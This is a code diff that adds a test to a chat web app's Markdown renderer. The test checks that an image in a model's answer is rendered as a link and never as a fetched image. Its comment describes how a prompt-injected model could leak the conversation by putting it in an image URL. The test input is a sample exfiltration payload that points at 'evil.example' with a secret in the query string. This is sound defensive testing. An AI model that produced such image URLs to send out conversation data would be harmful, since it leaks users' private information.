@@ -179,3 +179,14 @@ def test_the_finished_answer_sits_inside_hx_disable(owner: Any, owner_client: An
     assert "<strong>ok</strong>" in shown
     assert "&lt;div hx-get=" in shown  # shown as text, not as an element
     assert_harmless(shown.removeprefix('<div class="text markdown">'))
+
+
+def test_an_image_in_an_answer_is_a_link_the_browser_does_not_fetch() -> None:
+    # A prompt-injected model could put the conversation into an image URL; loading it
+    # would send it away without anyone clicking.
+    html = render_markdown('Look: ![a "cat"](https://evil.example/c.png?q=secret)')
+    found = Elements(html).found
+    assert [tag for tag, _a, _p in found] == ["p", "a"]
+    assert found[1][1]["href"] == "https://evil.example/c.png?q=secret"
+    assert "[image: a &quot;cat&quot;]" in html or '[image: a "cat"]' in html
+    assert "<img" not in html
